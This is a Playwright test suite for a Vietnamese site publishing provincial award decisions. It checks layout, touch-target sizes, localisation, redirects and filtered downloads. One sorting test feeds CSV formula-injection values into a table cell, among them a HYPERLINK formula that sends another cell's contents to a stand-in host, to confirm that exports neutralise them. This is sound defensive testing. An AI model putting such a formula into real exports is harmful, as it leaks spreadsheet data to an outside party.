"""A tour of the public site in Chromium at 390 px and 1366 px, one check per promise of the public-site work:
anchors survive a redirect, the 404 page is Vietnamese with search and the sections, the feed and the home page
put new publications first, statistics are readable on a phone (labels ≥ 12 px, distinct, each bar a link with
its number in text), a recipient has a copy-link control of ≥ 44 px, no English theme string is left, and form
inputs use ≥ 16 px text (no zoom on focus on phones)."""

from __future__ import annotations

import functools
import http.server
import re
import threading
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import FIXTURES, make_project, run_cli
from test_browser import ARGS, CHROMIUM, _Quiet  # noqa: F401  (the same Chromium and quiet server)

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PHONE = {"viewport": {"width": 390, "height": 844}, "device_scale_factor": 2, "is_mobile": True, "has_touch": True,
         "locale": "vi-VN"}
DESKTOP = {"viewport": {"width": 1366, "height": 900}, "locale": "vi-VN"}
ENGLISH = re.compile(r"\b(Made with|Permanent link|Back to top|Search|Skip to content|Table of contents|Previous|"
                     r"Next|Copy to clipboard|Type to start searching|Initializing search)\b")


class _Host(_Quiet):
    """A static host as GitHub Pages or GitLab Pages behave: a missing address answers with 404.html."""

    def send_error(self, code, message=None, explain=None):
        page = Path(self.directory) / "404.html"
        if code == 404 and page.is_file():
            body = page.read_bytes()
            self.send_response(404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)
            return
        super().send_error(code, message, explain)


def _serve(directory):
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_Host, directory=str(directory)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return httpd, f"http://127.0.0.1:{httpd.server_address[1]}/"


@pytest.fixture(scope="module")
def chromium():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def sample(sample_site):
    httpd, base = _serve(sample_site)
    yield sample_site, base
    httpd.shutdown()


def test_an_anchor_survives_a_moved_decision(chromium, tmp_path):
    project = make_project(tmp_path, FIXTURES / "minimal" / "data")
    config, site = str(project / "mkdocs.yml"), str(project / "site")
    assert run_cli("build", "--config", config, "--site-dir", site).returncode == 0
    (project / "data/decisions/2024/12-qd-ubnd.yaml").rename(project / "data/decisions/2024/12-qd-ubnd-tinh.yaml")
    (project / "data/redirects.yaml").write_text(
        "- old: quyet-dinh/2024/12-qd-ubnd/\n  new: quyet-dinh/2024/12-qd-ubnd-tinh/\n", "utf-8")
    assert run_cli("build", "--config", config, "--site-dir", site).returncode == 0
    httpd, base = _serve(project / "site")
    try:
        for size in (PHONE, DESKTOP):
            page = chromium.new_page(**size)
            page.goto(base + "quyet-dinh/2024/12-qd-ubnd/#nguoi-nhan-tran-thi-b")
            page.wait_for_url(re.compile(r".*/12-qd-ubnd-tinh/#nguoi-nhan-tran-thi-b$"))
            row = page.locator("#nguoi-nhan-tran-thi-b")
            row.wait_for()
            assert row.is_visible() and page.evaluate("window.scrollY") > 0  # landed at the row, not the top
            page.close()
    finally:
        httpd.shutdown()


def test_the_404_page_is_vietnamese_with_search_and_the_sections(chromium, sample):
    _, base = sample
    page = chromium.new_page(**PHONE)
    response = page.goto(base + "khong-co-trang-nay/")
    assert response.status == 404
    text = page.inner_text("body")
    assert "Không tìm thấy trang" in text and "404 - Not found" not in text
    assert page.locator("main input[type=search]").count() == 1
    for section in ("Quyết định khen thưởng theo năm", "Gương điển hình tiên tiến", "Thống kê"):
        assert page.get_by_role("link", name=section).count() >= 1
    # a decision's former print page (…/ban-in/) leads to the decision, which prints as that list
    page.goto(base + "quyet-dinh/2024/1876-qd-ubnd/ban-in/")
    page.wait_for_url("**/quyet-dinh/2024/1876-qd-ubnd/")
    assert page.locator("h1").inner_text().startswith("Quyết định số 1876/QĐ-UBND")
    # the former all-years bulk files lead to the list of year files
    for old in ("du-lieu/nguoi-nhan.csv", "du-lieu/quyet-dinh.json"):
        page.goto(base + old)
        page.wait_for_url("**/ve-du-lieu/#tai-du-lieu")
        assert page.locator("a[href$='/nguoi-nhan.csv.gz']").count() >= 4  # one per year of the sample
    page.close()


def test_the_feed_and_the_home_page_put_new_publications_first(chromium, sample):
    site, base = sample
    ns = "{http://www.w3.org/2005/Atom}"
    entries = ET.fromstring((site / "cap-nhat.atom").read_bytes()).findall(f"{ns}entry")
    updated = [e.findtext(f"{ns}updated") for e in entries]
    assert updated == sorted(updated, reverse=True)  # newest publication first, whatever the signing date
    page = chromium.new_page(**DESKTOP)
    page.goto(base)
    assert "Dữ liệu cập nhật đến" in page.inner_text("main")
    assert page.get_by_role("heading", name="Mới công bố").count() == 1
    page.close()


def test_statistics_on_a_phone_have_readable_distinct_linked_bars(chromium, sample):
    _, base = sample
    page = chromium.new_page(**PHONE)
    page.goto(base + "thong-ke/")
    sizes = page.eval_on_selector_all("table.bv-bars th.bv-bar-label",
                                      "els => els.map(e => parseFloat(getComputedStyle(e).fontSize))")
    assert sizes and min(sizes) >= 12
    for table in page.locator("table.bv-bars").all():
        labels = [t.strip() for t in table.locator("th.bv-bar-label").all_inner_texts()]
        assert len(labels) == len(set(labels)), labels  # no two bars with the same label
        for row in table.locator("tbody tr").all():
            count = row.locator("td.bv-num").first.inner_text().strip()
            assert re.fullmatch(r"[\d.]+", count), count  # the number is in the text, beside its bar
    assert page.locator("table.bv-bars tbody td.bv-num a").count() > 10  # numbers link to their lists
    page.close()


def test_a_recipient_has_a_copy_link_control_of_at_least_44_px(chromium, sample):
    _, base = sample
    for size in (PHONE, DESKTOP):
        page = chromium.new_page(**size)
        page.goto(base + "quyet-dinh/2024/1876-qd-ubnd/")
        button = page.locator("button.bv-row-cite").first
        button.wait_for(state="visible")
        box = button.bounding_box()
        assert box["height"] >= 44 and box["width"] >= 44
        page.close()


def test_no_english_theme_string_and_inputs_at_16_px(chromium, sample):
    _, base = sample
    for path in ("", "quyet-dinh/2024/1876-qd-ubnd/", "tim-kiem/", "thong-ke/", "guong-dien-hinh/"):
        for size in (PHONE, DESKTOP):
            page = chromium.new_page(**size)
            page.goto(base + path)
            visible = page.inner_text("body")
            labels = " ".join(page.eval_on_selector_all(
                "[title], [aria-label], [placeholder]",
                "els => els.map(e => [e.title, e.getAttribute('aria-label'), e.placeholder].join(' '))"))
            assert not ENGLISH.search(visible + " " + labels), (path, ENGLISH.search(visible + " " + labels))
            sizes = page.eval_on_selector_all("input:not([type=hidden]):not([type=checkbox]), select",
                                              "els => els.filter(e => e.offsetParent).map("
                                              "e => parseFloat(getComputedStyle(e).fontSize))")
            assert all(s >= 16 for s in sizes), (path, sizes)
            page.close()


def test_the_guide_has_44_px_copy_buttons_and_commands_that_fit_a_phone(chromium, sample):
    _, base = sample
    page = chromium.new_page(**PHONE)
    page.goto(base + "huong-dan-dang-quyet-dinh/")
    buttons = page.locator(".md-code__button")
    assert buttons.count() == page.locator("pre > code").count() >= 8
    box = buttons.first.bounding_box()
    assert box["width"] >= 44 and box["height"] >= 44
    assert buttons.first.get_attribute("title") == "Sao chép vào bộ nhớ tạm"
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    cut = page.eval_on_selector_all("pre", "els => els.filter(e => e.scrollWidth > e.clientWidth).length")
    assert cut == 0  # every command readable whole, without scrolling sideways
    page.close()


def test_a_year_is_a_list_view_with_counted_filters_sorting_and_downloads_of_the_rows_shown(chromium, sample, tmp_path):
    import csv
    import json

    from generator.site.exports import csv_cell
    from generator.text import slugify

    _, base = sample
    for size in (PHONE, DESKTOP):
        page = chromium.new_page(accept_downloads=True, **size)
        page.goto(base + "quyet-dinh/2024/")
        table = page.locator("table[data-bv-list]")
        total = table.locator("tbody tr").count()
        assert page.locator(".bv-listview__status").inner_text() == f"Đang hiện tất cả {total} dòng."
        box = page.locator("details.bv-listview")
        assert (box.get_attribute("open") is None) == (size is PHONE)  # on a phone the list comes first
        if size is PHONE:
            page.get_by_text("Lọc và tải danh sách").click()
        assert page.evaluate("document.documentElement.scrollWidth") <= size["viewport"]["width"]
        authority = page.get_by_label("Cơ quan")
        options = authority.locator("option").all_inner_texts()
        assert options[0] == f"Tất cả ({total})"
        counts = {o.rsplit(" (", 1)[0]: int(o.rsplit("(", 1)[1].rstrip(")")) for o in options[1:]}
        assert sum(counts.values()) == total
        chosen = max(counts, key=counts.get)
        authority.select_option(chosen)
        visible = table.locator("tbody tr:visible")
        assert visible.count() == counts[chosen] < total
        assert page.locator(".bv-listview__status").inner_text() == f"Đang hiện {counts[chosen]} trên {total} dòng."
        # the other filters count only what the first leaves
        form_options = page.get_by_label("Hình thức").locator("option").all_inner_texts()
        assert form_options[0] == f"Tất cả ({counts[chosen]})"
        box = authority.bounding_box()
        assert box["height"] >= 44
        with page.expect_download() as got:
            page.get_by_role("button", name="Tải CSV các dòng đang hiện").click()
        path = tmp_path / "list.csv"
        got.value.save_as(path)
        assert got.value.suggested_filename == f"quyet-dinh-nam-2024-{slugify(chosen)}.csv"  # the list and its filter
        rows = list(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
        assert len(rows) == counts[chosen] and {r["Cơ quan"] for r in rows} == {chosen}
        # every column of the row and what the table does not show: its year and its address
        assert {r["Năm"] for r in rows} == {"2024"}
        assert all(r["Địa chỉ"].startswith(base + "quyet-dinh/2024/") for r in rows)
        # the view is in the address: a reload (or the link, shared) shows the same rows
        assert "co-quan=" in page.url
        page.reload()
        if size is PHONE:
            assert page.locator("details.bv-listview").get_attribute("open") is not None  # a filtered view opens
        assert page.get_by_label("Cơ quan").input_value() == chosen
        assert table.locator("tbody tr:visible").count() == counts[chosen]
        with page.expect_download() as got:
            page.get_by_role("button", name="Tải JSON").click()
        got.value.save_as(tmp_path / "list.json")
        assert json.loads((tmp_path / "list.json").read_text("utf-8")) == rows
        if size is DESKTOP:  # sorting by date, oldest first, then newest first
            page.get_by_role("button", name="Ngày").click()
            assert page.locator("th[aria-sort=ascending]").inner_text().startswith("Ngày")
            dates = table.locator("tbody tr:visible td[data-sort]").evaluate_all(
                "cells => cells.map(c => c.getAttribute('data-sort'))")
            dates = [d for d in dates if len(d) == 10]
            assert dates == sorted(dates)
            page.get_by_role("button", name="Ngày").click()
            dates = [d for d in table.locator("tbody tr:visible td[data-sort]").evaluate_all(
                "cells => cells.map(c => c.getAttribute('data-sort'))") if len(d) == 10]
            assert dates == sorted(dates, reverse=True)
            assert "sap-xep=ngay" in page.url and "thu-tu=giam" in page.url
            page.reload()
            assert page.locator("th[aria-sort=descending]").inner_text().startswith("Ngày")
            # the browser's CSV guard is exports.py's: a cell that would run as a formula is neutralised alike
            for value in ('=HYPERLINK("https://x.example/?"&B2,"Xem")', "+1", "-2", "@a", "bình, \"thường\""):
                page.evaluate("v => { document.querySelector('table[data-bv-list] tbody tr:not([hidden]) td')"
                              ".textContent = v; }", value)
                with page.expect_download() as got:
                    page.get_by_role("button", name="Tải CSV các dòng đang hiện").click()
                got.value.save_as(path)
                first = next(csv.reader(path.read_text(encoding="utf-8-sig").splitlines()[1:]))
                assert first[0] == csv_cell(value)
        page.close()


# One page of every kind the site makes, for the checks that go over all of them.
PAGE_KINDS = ("", "tim-kiem/", "quyet-dinh/", "quyet-dinh/2024/", "quyet-dinh/2024/1876-qd-ubnd/",
              "hinh-thuc-khen-thuong/", "hinh-thuc-khen-thuong/anh-hung-lao-dong/", "don-vi/",
              "don-vi/benh-vien-da-khoa-tinh/", "nguoi/", "nguoi/hoang-van-t/", "guong-dien-hinh/",
              "guong-dien-hinh/ho-dang-van-s/", "thong-ke/", "thong-ke/2024/", "thong-ke/danh-sach/2024/ca-nhan/",
              "thong-ke/bao-cao/2025-0601/", "thong-ke/bao-cao/2025-ubnd-tinh-hoa-an-0603/", "khen-thuong-bi-huy/",
              "lay-y-kien/", "lay-y-kien/chien-si-thi-dua-cap-tinh-2026-dot-2/", "cap-nhat/", "gioi-thieu/",
              "huong-dan-dang-quyet-dinh/", "van-ban-phap-luat/", "khong-co-trang-nay/")

# Every control a finger uses on the page, with its box; left out: what is not on screen (hidden, clipped to
# 1 px, in the closed drawer), a label whose own control is shown (the control is the target), and a link
# inside running text (WCAG 2.5.8's inline exception: its parent says more than the link).
_SMALL_TARGETS = r"""() => {
  const small = [];
  const shown = e => { for (let a = e; a; a = a.parentElement) { const r = a.getBoundingClientRect(), s = getComputedStyle(a);
      if (a.hidden || s.display === 'none' || s.visibility === 'hidden' || r.width <= 1 || r.height <= 1) return false; }
    return true; };
  for (const e of document.querySelectorAll('a[href], button, input:not([type=hidden]), select, summary, label[for]')) {
    const r = e.getBoundingClientRect();
    if (!shown(e) || r.right <= 0 || r.left >= innerWidth || e.closest('.md-sidebar, [data-md-component=skip]')) continue;
    if (e.tagName === 'LABEL') { const c = document.getElementById(e.htmlFor); if (c && shown(c)) continue; }
    const p = e.parentElement;
    if (e.tagName === 'A' && getComputedStyle(e).display === 'inline'
        && p.textContent.trim().length > e.textContent.trim().length + 3) continue;
    if (r.width < 44 || r.height < 44)
      small.push(`${e.tagName} «${(e.textContent || e.getAttribute('aria-label') || '').trim().slice(0, 30)}» ${Math.round(r.width)}×${Math.round(r.height)}`);
  }
  return small;
}"""


def test_every_target_on_a_phone_is_at_least_44_px_on_every_page_kind(chromium, sample):
    _, base = sample
    page = chromium.new_page(**PHONE)
    for path in PAGE_KINDS:
        page.goto(base + path)
        assert page.evaluate(_SMALL_TARGETS) == [], path
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
    # «Lên đầu trang» shows once the reader scrolls back up a long page
    page.goto(base + "thong-ke/danh-sach/2024/ca-nhan/")
    page.mouse.wheel(0, 3000)
    page.wait_for_timeout(300)
    page.mouse.wheel(0, -400)
    top = page.locator(".md-top")
    top.wait_for(state="visible")
    box = top.bounding_box()
    assert box["width"] >= 44 and box["height"] >= 44
    page.close()


def test_the_home_page_has_one_search_box_and_names_the_publishing_office(chromium, sample):
    _, base = sample
    for size in (PHONE, DESKTOP):
        page = chromium.new_page(**size)
        page.goto(base)
        assert page.locator("input[type=search]").count() == 1
        assert "Cơ quan công bố: Ban Thi đua - Khen thưởng tỉnh Hòa An" in page.inner_text("main")
        page.goto(base + "thong-ke/")
        assert page.locator("header input[type=search]").count() == 1  # other pages keep the header's box
        page.close()


def test_a_report_names_its_line_with_the_address_and_subject_written_out(chromium, sample):
    from urllib.parse import unquote

    _, base = sample
    for size in (PHONE, DESKTOP):
        page = chromium.new_page(**size)
        page.goto(base + "quyet-dinh/2024/1876-qd-ubnd/")
        if size is PHONE:  # a line's card shows no label without its value («Tiền thưởng:» and nothing)
            assert all(t.strip() for t in page.locator("td[data-label]:visible").all_inner_texts())
        box = page.locator("aside.bv-feedback")
        assert "Gửi thư tới thiduakhenthuong@hoa-an.example, tiêu đề: Báo sai sót: Quyết định số 1876/QĐ-UBND (" \
            in box.inner_text()
        button = page.get_by_role("button", name=re.compile(r"^Báo sai sót dòng \d+$")).first
        row = button.locator("xpath=ancestor::tr[@id]")
        number, anchor = row.locator("td").first.inner_text().strip(), row.get_attribute("id")
        who = button.get_attribute("data-bv-report-row")
        b = button.bounding_box()
        assert b["width"] >= 44 and b["height"] >= 44
        button.click()
        subject = f"Báo sai sót: Quyết định số 1876/QĐ-UBND, dòng {number} — {who} (" \
                  f"https://bangvang-hoa-an.example/quyet-dinh/2024/1876-qd-ubnd/#{anchor})"
        assert box.locator("[data-bv-feedback-subject]").inner_text() == subject
        href = box.locator("a.md-button").get_attribute("href")
        assert unquote(href.split("subject=", 1)[1].split("&", 1)[0]) == subject
        assert "body=" in href
        assert page.evaluate("document.activeElement.textContent") == "Báo sai sót"  # the reader is taken there
        page.close()


@pytest.mark.parametrize("day, open_", [("2026-12-15T12:00:00", True), ("2026-12-16T08:00:00", False)])
def test_a_consultation_has_a_button_per_candidate_until_its_deadline(chromium, sample, day, open_):
    _, base = sample
    page = chromium.new_page(**PHONE)
    page.clock.set_fixed_time(day)
    page.goto(base + "lay-y-kien/chien-si-thi-dua-cap-tinh-2026-dot-2/")
    rows = page.locator("table tbody tr").count()
    buttons = page.get_by_role("button", name="Góp ý về người này")
    box = page.locator("aside.bv-feedback")
    if open_:
        assert buttons.count() == rows
        buttons.last.click()
        assert ", dòng " in box.locator("[data-bv-feedback-subject]").inner_text()
        assert box.get_by_role("link", name="Đề cử / góp ý").is_visible()
    else:
        assert buttons.count() == 0
        assert page.locator("tbody").get_by_text("Đã hết hạn góp ý").count() == rows
        assert box.inner_text().strip() == "Đã hết hạn góp ý."
    page.close()


def test_a_unit_page_filters_by_year_and_names_its_subordinate_units_awards(chromium, sample, tmp_path):
    import csv

    _, base = sample
    page = chromium.new_page(accept_downloads=True, **DESKTOP)
    page.goto(base + "don-vi/so-y-te/")
    children = page.locator("#don-vi-truc-thuoc + p + ul li")
    assert children.count() >= 2 and "lượt khen thưởng còn hiệu lực" in children.first.inner_text()
    year = page.get_by_label("Năm")
    options = year.locator("option").all_inner_texts()
    assert len(options) >= 3  # «Tất cả» and two years at least
    chosen = options[1].rsplit(" (", 1)[0]
    year.select_option(chosen)
    assert "nam=" + chosen in page.url
    with page.expect_download() as got:
        page.get_by_role("button", name="Tải CSV các dòng đang hiện").click()
    assert got.value.suggested_filename == f"khen-thuong-so-y-te-{chosen}.csv"
    got.value.save_as(tmp_path / "unit.csv")
    rows = list(csv.DictReader((tmp_path / "unit.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert rows and {r["Năm"] for r in rows} == {chosen} and {r["Hiệu lực"] for r in rows} <= {"Còn hiệu lực", "Đã hủy bỏ"}
    assert all(r["Đơn vị"] and "#" in r["Địa chỉ"] for r in rows)  # each row's unit and its line's address
    page.close()


def test_a_years_excel_workbook_downloads_under_its_years_name_and_opens(chromium, sample, tmp_path):
    from openpyxl import load_workbook

    _, base = sample
    page = chromium.new_page(accept_downloads=True, **PHONE)
    page.goto(base + "ve-du-lieu/")
    link = page.get_by_role("link", name="Excel, năm 2024 (.xlsx)")
    box = link.bounding_box()
    assert box["height"] >= 44
    with page.expect_download() as got:
        link.click()
    assert got.value.suggested_filename == "khen-thuong-2024.xlsx"
    got.value.save_as(tmp_path / "book.xlsx")
    sheet = load_workbook(tmp_path / "book.xlsx", read_only=True).worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    year = rows[0].index("Năm")
    assert rows[0][0] == "Mã quyết định" and len(rows) > 10 and all(r[year] == 2024 for r in rows[1:])
    page.close()


def test_statistics_put_the_headline_shares_first_and_compare_the_key_shares_year_by_year(chromium, sample):
    _, base = sample
    for size in (PHONE, DESKTOP):
        page = chromium.new_page(**size)
        page.goto(base + "thong-ke/")
        headline = page.locator("dl.bv-totals")
        trend = page.locator("table.bv-trend")
        assert headline.bounding_box()["y"] < trend.bounding_box()["y"] < page.locator("#bd-level").bounding_box()["y"]
        assert "Nữ (cá nhân)" in headline.inner_text()
        labels = trend.locator("tbody th").all_inner_texts()
        assert labels == ["Nữ", "Người trực tiếp công tác, lao động", "Tập thể", "Hộ gia đình", "Khen thưởng cấp cơ sở"]
        years = trend.locator("thead th").all_inner_texts()[1:]
        assert years == ["2023", "2024", "2025", "2026", "Tất cả các năm"]
        cells = trend.locator("td.bv-trend__cell")
        assert cells.count() == len(labels) * len(years)
        for i in range(cells.count()):
            text = cells.nth(i).inner_text()
            assert "%" in text and "của " in text and "lượt" in text, text  # the share, its denominator, the count
        # a cell's count leads to the list it counts: as many rows there as the cell says
        link = trend.locator("tbody tr").nth(0).locator("a").first
        count = int(link.inner_text().split()[0].replace(".", ""))
        link.click()
        assert page.locator("table[data-bv-list] tbody tr").count() == count
        page.close()


REPORTS = ("thong-ke/bao-cao/2025-0601/", "thong-ke/bao-cao/2025-0602/", "thong-ke/bao-cao/2025-ubnd-tinh-hoa-an-0603/")


def test_report_forms_show_every_value_on_a_phone_and_use_the_width_on_a_desktop(chromium, sample):
    _, base = sample
    # every value of the table inside its cell at 390 px, its label beside it (not pushed out by the label)
    page = chromium.new_page(**PHONE)
    for path in REPORTS:
        page.goto(base + path)
        outside = page.eval_on_selector_all("table.bv-report__table td.bv-num", """cells => cells.filter(td => {
            const r = td.getBoundingClientRect(); if (!r.width) return false;
            const range = document.createRange(); range.selectNodeContents(td);
            const text = [...range.getClientRects()].pop();
            return !text || text.right > r.right + 1 || text.right > innerWidth;
        }).map(td => td.dataset.label + ' ' + td.textContent)""")
        assert outside == [], path
        assert page.evaluate("document.documentElement.scrollWidth") <= 390, path
    page.close()
    # at 1366 px no empty table-of-contents column: the table ends near the page's right edge; only 0602 (seventeen
    # columns of numbers) still scrolls, inside a region the keyboard reaches and a screen reader names
    page = chromium.new_page(**DESKTOP)
    for path in REPORTS:
        page.goto(base + path)
        assert not page.locator(".md-sidebar--secondary").is_visible()
        wrap = page.locator(".bv-table-wrap").first
        box = wrap.bounding_box()
        assert box["x"] + box["width"] > 1366 - 200, path
        fits = wrap.evaluate("w => w.scrollWidth <= w.clientWidth")
        assert fits or (path.endswith("-0602/") and wrap.get_attribute("tabindex") == "0"
                        and "cuộn ngang" in wrap.get_attribute("aria-label")), path
    page.close()
